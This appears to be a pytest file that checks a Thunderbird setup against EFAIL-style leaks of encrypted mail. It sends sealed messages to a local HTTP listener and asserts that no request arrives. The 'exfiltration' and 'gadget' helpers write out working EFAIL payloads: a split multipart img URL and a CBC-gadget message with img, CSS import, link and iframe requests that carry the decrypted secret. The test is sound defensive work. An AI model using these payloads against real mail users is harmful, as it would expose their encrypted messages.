"""Debian's Thunderbird reads through the agent, remote content allowed: what EFAIL sends makes no request."""

import http.server
import threading
import time

import pytest

from replies_test import BOB, CAROL, SECRET, openssl_seals, stamp, thread  # noqa: F401 (a fixture)
from mailreader import Thunderbird

SETTLE_SECONDS = 2


class Listener:
    """An HTTP server that everybody may ask, and that remembers for what."""

    def __init__(self):
        asked = self.asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def thunderbird(agents, world, tmp_path_factory):
    agents[BOB]
    world.empty(BOB)
    program = Thunderbird(agents[BOB], tmp_path_factory.mktemp("thunderbird"),
                          **{"mailnews.message_display.disable_remote_image": False})
    yield program
    program.close()


def comes(world, octets, ident):
    with world.stranger("beta.test") as smtp:
        smtp.sendmail(CAROL, [BOB], octets)
    world.wait_for_letter(BOB, ident)


def head(ident):
    return [f"From: Carol <{CAROL}>", f"To: {BOB}", f"Subject: look at {ident}", f"Message-ID: {ident}"]


def plain_html(url):
    return f'Content-Type: text/html\r\n\r\n<p>Hello</p><img src="{url}/control">\r\n'.encode()


def exfiltration(url):
    """Three parts, of which the first begins an address and the last ends it."""
    return (f'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n'
            f'<img src="{url}/direct?\r\n--x\r\nContent-Type: text/plain\r\n\r\n{SECRET}\r\n--x\r\n'
            'Content-Type: text/html\r\n\r\n">\r\n--x--\r\n').encode()


def gadget(url):
    """What the CBC gadget makes of a letter: its own header and HTML, garbage, the secret, HTML."""
    return (b"Content-type: text/html\nX: \x93\x07\xfe\x8a\x11\xd2\x41\xb0\n\n<img class=\"\x88\xe1\x02\xaf\" src=\""
            + url.encode() + b"/gadget?\xc3\x9a\x00\x17 Content-Type: text/plain " + SECRET.encode()
            + b"\xf1\x19\">\x9d<style>@import '" + url.encode() + b"/style';</style><link rel=stylesheet href=\""
            + url.encode() + b"/link\"><iframe src=\"" + url.encode() + b"/frame\"></iframe>\n")


def show(world, thunderbird, listener, octets, ident):
    comes(world, octets, ident)
    assert ident.strip("<>") in thunderbird.update()
    text = thunderbird.open(ident)
    time.sleep(SETTLE_SECONDS)
    return text


def test_remote_content_is_loaded_where_nothing_is_sealed(world, thunderbird, listener, tmp_path):
    """Else the next tests would prove nothing."""
    ident = stamp("control")
    octets = "".join(f"{line}\r\n" for line in head(ident)).encode() + b"MIME-Version: 1.0\r\n" + plain_html(
        listener.url)
    text = show(world, thunderbird, listener, octets, ident)
    assert "Hello" in text and listener.asked == ["/control"]


@pytest.mark.parametrize("trick", [exfiltration, gadget, plain_html])
def test_what_anybody_could_have_sealed_makes_no_request(world, thunderbird, listener, tmp_path, trick):
    listener.asked.clear()
    ident = stamp(trick.__name__)
    octets = openssl_seals(world, tmp_path, trick(listener.url), *head(ident))
    text = show(world, thunderbird, listener, octets, ident)
    assert listener.asked == []
    assert "only its text is shown" in text
    # what was sealed was opened, and is there to be read
    assert trick is gadget or (SECRET if trick is exfiltration else "Hello") in text
